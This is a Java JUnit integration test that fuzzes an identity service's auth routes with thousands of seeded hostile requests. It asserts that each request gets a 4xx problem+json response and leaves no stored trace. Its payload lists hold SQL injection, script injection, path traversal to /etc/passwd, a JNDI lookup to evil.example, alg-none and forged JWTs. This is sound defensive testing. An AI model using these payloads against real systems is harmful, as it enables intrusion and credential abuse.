package org.identityledger.web;

import org.identityledger.web.support.Browser;
import org.identityledger.web.support.HttpAnswer;
import org.identityledger.web.support.IntegrationTest;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Thousands of generated hostile requests at every route: each must get a 4xx problem+json with a
 * code, none a 5xx or a hang, and none may leave an event, a lookup row or a queued mail behind.
 */
class HostileInputTest extends IntegrationTest {

    private static final int REQUESTS = 2_400;
    private static final String[] JSON_ROUTES = {
            "/v1/auth/signup", "/v1/auth/login", "/v1/auth/email/verify", "/v1/auth/email/verification",
            "/v1/auth/password/reset-request", "/v1/auth/password/reset", "/v1/auth/native/login",
            "/v1/auth/native/refresh"};
    private static final String[] FIELDS = {"email", "password", "display_name", "next_path", "return_target", "token",
            "new_password", "refresh_token", "device_name"};

    private final Random random = new Random(20261123L);

    @Test
    void hostileRequestsGetA4xxProblemAndLeaveNoTrace() {
        long eventsBefore = count("domain_event_entry");
        long accountsBefore = count("account_lookup");
        long mailsBefore = jdbc.queryForObject("SELECT coalesce(max(id), 0) FROM mail_outbox", Long.class);
        Browser browser = browser();
        Browser anonymous = new Browser("http://localhost:" + port);
        Map<Integer, Integer> statuses = new TreeMap<>();

        for (int i = 0; i < REQUESTS; i++) {
            Attack attack = nextAttack();
            HttpAnswer answer = attack.send(random.nextInt(10) == 0 ? anonymous : browser);
            statuses.merge(answer.status(), 1, Integer::sum);
            assertThat(answer.status()).as("%s -> %s", attack.description(), answer.body()).isBetween(400, 499);
            assertThat(answer.contentType()).as(attack.description()).startsWith("application/problem+json");
            assertThat(answer.json().path("code").asText()).as(attack.description()).matches("[A-Z_]+");
        }

        System.out.println("hostile input statuses: " + statuses);
        assertThat(count("domain_event_entry")).isEqualTo(eventsBefore);
        assertThat(count("account_lookup")).isEqualTo(accountsBefore);
        assertThat(jdbc.queryForObject("SELECT coalesce(max(id), 0) FROM mail_outbox", Long.class)).isEqualTo(mailsBefore);
    }

    private long count(String table) {
        return jdbc.queryForObject("SELECT count(*) FROM " + table, Long.class);
    }

    private record Attack(String description, java.util.function.Function<Browser, HttpAnswer> request) {
        HttpAnswer send(Browser browser) {
            try {
                return request.apply(browser);
            } catch (java.io.UncheckedIOException noAnswer) {
                throw new AssertionError("no answer to " + description, noAnswer);
            }
        }
    }

    private Attack nextAttack() {
        String route = JSON_ROUTES[random.nextInt(JSON_ROUTES.length)];
        int kind = random.nextInt(16);
        return switch (kind) {
            case 0 -> json(route, "malformed", malformedJson());
            case 1 -> json(route, "truncated", truncate(objectWith(hostileFields())));
            case 2 -> json(route, "wrong types", "{\"" + field() + "\":" + wrongType() + ",\"" + field() + "\":" + wrongType() + "}");
            case 3 -> json(route, "nulls", "{\"email\":null,\"password\":null,\"token\":null,\"refresh_token\":null,\"new_password\":null}");
            case 4 -> json(route, "huge body", "{\"email\":\"" + "a".repeat(70_000 + random.nextInt(200_000)) + "\"}");
            case 5 -> json(route, "deep nesting", "[".repeat(5_000 + random.nextInt(20_000)) + "]".repeat(10));
            case 6 -> bytes(route, "invalid utf-8", invalidUtf8());
            case 7 -> json(route, "control characters", objectWith(Map.of("email", "a\u0000b@ex\u0007ample.com",
                    "password", "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000b\u000c\u000e\u000f",
                    "token", "\u001b[31m", "display_name", "evil\u202eeman")));
            case 8 -> json(route, "long strings", objectWith(longStrings()));
            case 9 -> new Attack("wrong content type " + route, browser -> browser.send("POST", route,
                    random.nextBoolean() ? "text/plain" : "application/x-www-form-urlencoded", "email=a@b.c&password=x"));
            case 10 -> json(route, "unknown fields", "{\"email\":\"not-an-email\",\"is_admin\":true,\"role\":\"root\","
                    + "\"__proto__\":{\"x\":1},\"account_ref\":\"acc_x\"}");
            case 11 -> json(route, "bad tokens", objectWith(Map.of("token", badToken(), "refresh_token", badToken(),
                    "new_password", "a perfectly fine new passphrase")));
            case 12 -> bearer("alg none", noneJwt());
            case 13 -> bearer("foreign key", foreignJwt());
            case 14 -> new Attack("empty body " + route, browser -> browser.postJson(route, ""));
            default -> json(route, "hostile values", objectWith(hostileFields()));
        };
    }

    private Attack json(String route, String what, String body) {
        return new Attack(what + " " + route + " " + abbreviate(body), browser -> browser.postJson(route, body));
    }

    private Attack bytes(String route, String what, byte[] body) {
        return new Attack(what + " " + route, browser -> browser.sendBytes("POST", route, "application/json", body));
    }

    private Attack bearer(String what, String token) {
        String[] routes = {"/v1/auth/me", "/v1/auth/sessions"};
        String route = routes[random.nextInt(routes.length)];
        boolean post = random.nextInt(3) == 0;
        return new Attack(what + " " + route, browser -> {
            Browser withToken = new Browser("http://localhost:" + port).bearer(token);
            return post ? withToken.post("/v1/auth/native/logout") : withToken.get(route);
        });
    }

    private Map<String, Object> longStrings() {
        Map<String, Object> fields = new TreeMap<>();
        fields.put(field(), "x".repeat(10_000));
        fields.put(field(), "y".repeat(10_000));
        fields.put("email", "z".repeat(10_000) + "@example.com");
        return fields;
    }

    private Map<String, Object> hostileFields() {
        Map<String, Object> fields = new TreeMap<>();
        Supplier<String> value = () -> switch (random.nextInt(12)) {
            case 0 -> "' OR '1'='1";
            case 1 -> "<script>alert(1)</script>";
            case 2 -> "//evil.example";
            case 3 -> "javascript:alert(1)";
            case 4 -> "../../etc/passwd";
            case 5 -> "${jndi:ldap://evil.example/a}";
            case 6 -> "%00%0d%0a";
            case 7 -> "\uD800";
            case 8 -> "@";
            case 9 -> "a@b";
            case 10 -> "   ";
            default -> "x".repeat(random.nextInt(300));
        };
        for (String field : FIELDS) {
            if (random.nextBoolean()) {
                fields.put(field, value.get());
            }
        }
        // Never a well-formed email: no hostile request may ever be a valid signup.
        fields.put("email", value.get());
        return fields;
    }

    private String objectWith(Map<String, Object> fields) {
        StringBuilder json = new StringBuilder("{");
        fields.forEach((name, value) -> json.append(json.length() > 1 ? "," : "").append('"').append(name).append("\":\"")
                .append(escape(String.valueOf(value))).append('"'));
        return json.append('}').toString();
    }

    private static String escape(String value) {
        StringBuilder escaped = new StringBuilder();
        for (char c : value.toCharArray()) {
            if (c == '"' || c == '\\') {
                escaped.append('\\').append(c);
            } else if (c < 0x20) {
                escaped.append(String.format("\\u%04x", (int) c));
            } else {
                escaped.append(c);
            }
        }
        return escaped.toString();
    }

    private String truncate(String json) {
        return json.substring(0, Math.max(1, random.nextInt(json.length())));
    }

    private String malformedJson() {
        String[] broken = {"{", "}", "{\"email\"", "{\"email\":}", "{email:\"a@b.c\"}", "{'email':'a@b.c'}", "[1,2,",
                "nul", "tru", "\"just a string", "{\"a\":1,,}", "{\"a\" 1}", "{}{}", "\u0000", "{\"email\":\"a\"\"}",
                "{\"email\":0x1F}", "{\"email\":NaN}", "/* comment */ {}", "{\"a\":\"\\x41\"}", "{\"a\":\"\\u12\"}"};
        return broken[random.nextInt(broken.length)];
    }

    private String wrongType() {
        String[] values = {"1", "-1.5e308", "true", "false", "[]", "{}", "[\"a@b.c\"]", "{\"nested\":{\"deeper\":[1]}}",
                "123456789012345678901234567890"};
        return values[random.nextInt(values.length)];
    }

    private String field() {
        return FIELDS[random.nextInt(FIELDS.length)];
    }

    private byte[] invalidUtf8() {
        byte[] prefix = "{\"email\":\"".getBytes(StandardCharsets.US_ASCII);
        byte[][] invalid = {{(byte) 0xC3, (byte) 0x28}, {(byte) 0xE2, (byte) 0x28, (byte) 0xA1}, {(byte) 0xFF},
                {(byte) 0xF0, (byte) 0x28, (byte) 0x8C, (byte) 0x28}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}};
        byte[] bad = invalid[random.nextInt(invalid.length)];
        byte[] suffix = "@example.com\",\"password\":\"correct horse battery staple\"}".getBytes(StandardCharsets.US_ASCII);
        byte[] body = new byte[prefix.length + bad.length + suffix.length];
        System.arraycopy(prefix, 0, body, 0, prefix.length);
        System.arraycopy(bad, 0, body, prefix.length, bad.length);
        System.arraycopy(suffix, 0, body, prefix.length + bad.length, suffix.length);
        return body;
    }

    private String badToken() {
        String[] tokens = {"", " ", "A".repeat(43), "A".repeat(42), "A".repeat(44), "!".repeat(43), "a.b.c",
                "eyJhbGciOiJub25lIn0.e30.", "../../../../etc/passwd", "%00", "x".repeat(5_000)};
        return tokens[random.nextInt(tokens.length)];
    }

    private String noneJwt() {
        return b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + b64("{\"iss\":\"http://localhost:8080\",\"sub\":\"acc_x\","
                + "\"sid\":\"ses_x\",\"aud\":\"identity-ledger\",\"exp\":9999999999}") + ".";
    }

    private String foreignJwt() {
        try {
            var key = new com.nimbusds.jose.jwk.gen.ECKeyGenerator(com.nimbusds.jose.jwk.Curve.P_256)
                    .keyID(random.nextBoolean() ? "foreign" : "made-up").generate();
            var jwt = new com.nimbusds.jwt.SignedJWT(new com.nimbusds.jose.JWSHeader.Builder(com.nimbusds.jose.JWSAlgorithm.ES256)
                    .keyID(key.getKeyID()).build(), new com.nimbusds.jwt.JWTClaimsSet.Builder().issuer("http://localhost:8080")
                    .subject("acc_x").audience("identity-ledger").claim("sid", "ses_x")
                    .expirationTime(new java.util.Date(System.currentTimeMillis() + 600_000)).build());
            jwt.sign(new com.nimbusds.jose.crypto.ECDSASigner(key));
            return jwt.serialize();
        } catch (com.nimbusds.jose.JOSEException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static String b64(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    private static String abbreviate(String body) {
        return body.length() > 120 ? body.substring(0, 120) + "…" : body;
    }
}
